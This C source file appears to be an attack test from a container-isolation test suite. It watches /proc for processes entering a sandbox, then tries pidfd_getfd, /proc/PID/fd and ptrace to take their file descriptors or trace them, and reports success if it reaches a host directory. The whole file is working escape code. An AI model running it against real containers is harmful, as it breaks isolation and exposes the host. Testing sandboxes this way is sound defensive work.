/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * hijack.c: looks for a process that is on its way into this place and still has what it should not: takes its descriptors, reads its
 * memory, traces it. The attack holds the process in that moment by a program on a file system that is slow to answer.
 *
 *   hijack SECONDS      succeeds with a file of the host's
 */
#include "attack.h"
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char refusal[256]; /* "": no process came by */
static char own_id[64];

static double now(void) {
        struct timespec t;

        clock_gettime(CLOCK_MONOTONIC, &t);
        return (double) t.tv_sec + (double) t.tv_nsec / 1e9;
}

static void refused(const char *what, int pid) {
        if (errno == ESRCH) {
                return; /* it was a short one */
        }
        snprintf(refusal, sizeof(refusal), "%s of process %d: %s", what, pid, strerror(errno));
}

/* A directory from which another /etc/machine-id than ours can be read. */
static bool is_host_directory(int fd) {
        char text[64] = "";
        int file = openat(fd, "machine-id", O_RDONLY | O_CLOEXEC);
        ssize_t n;

        if (file < 0) {
                return false;
        }
        n = read(file, text, sizeof(text) - 1);
        close(file);
        return n > 0 && strncmp(text, own_id, 32) != 0;
}

static bool take_descriptors(int pid) {
        int pidfd = (int) syscall(SYS_pidfd_open, pid, 0);
        bool taken = false;

        for (int n = 0; !taken && n < 64; n++) {
                char path[64];
                int fd = (int) syscall(SYS_pidfd_getfd, pidfd, n, 0);

                if (fd < 0 && errno == EPERM) {
                        refused("pidfd_getfd", pid);
                        snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, n);
                        fd = open(path, O_RDONLY | O_CLOEXEC);
                }
                taken = fd >= 0 && is_host_directory(fd);
                if (taken) {
                        say("took descriptor %d of process %d: a directory of the host's", n, pid);
                }
                close(fd);
        }
        close(pidfd);
        return taken;
}

/* That it can be done is enough when the program is not ours: its code is then ours to change. */
static bool trace(int pid) {
        char path[64], program[256];
        bool taken = false;
        struct stat st;
        ssize_t n;

        if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
                refused("ptrace", pid);
                return false;
        }
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        n = readlink(path, program, sizeof(program) - 1);
        program[n > 0 ? n : 0] = '\0';
        taken = n > 0 && stat(program, &st) < 0;
        if (taken) {
                say("traces process %d, which is the host's %s", pid, program);
        }
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
        return taken;
}

static bool hijack(int pid) {
        return take_descriptors(pid) || trace(pid);
}

/* What was here before is our own. */
static bool known[1 << 22];

static bool scan(bool learn) {
        DIR *dir = opendir("/proc");
        struct dirent *e;
        bool taken = false;

        while (!taken && (e = readdir(dir))) {
                int pid = atoi(e->d_name);

                if (pid <= 0 || pid == getpid() || pid >= 1 << 22) {
                        continue;
                }
                if (learn) {
                        known[pid] = true;
                } else if (!known[pid]) {
                        taken = hijack(pid);
                }
        }
        closedir(dir);
        return taken;
}

int main(int argc, char **argv) {
        const double end = now() + (argc > 1 ? atof(argv[1]) : 0);
        int fd = open("/etc/machine-id", O_RDONLY | O_CLOEXEC);

        if (argc != 2 || fd < 0 || read(fd, own_id, sizeof(own_id) - 1) < 32) {
                fprintf(stderr, "usage: hijack SECONDS (in a place with a machine id)\n");
                return ATTACK_BROKEN;
        }
        (void) scan(true);
        say("watching");
        while (now() < end) {
                if (scan(false)) {
                        return ATTACK_SUCCEEDED;
                }
        }
        if (!refusal[0]) {
                say("broken: no process came by");
                return ATTACK_BROKEN;
        }
        say("%s", refusal);
        return ATTACK_STOPPED;
}
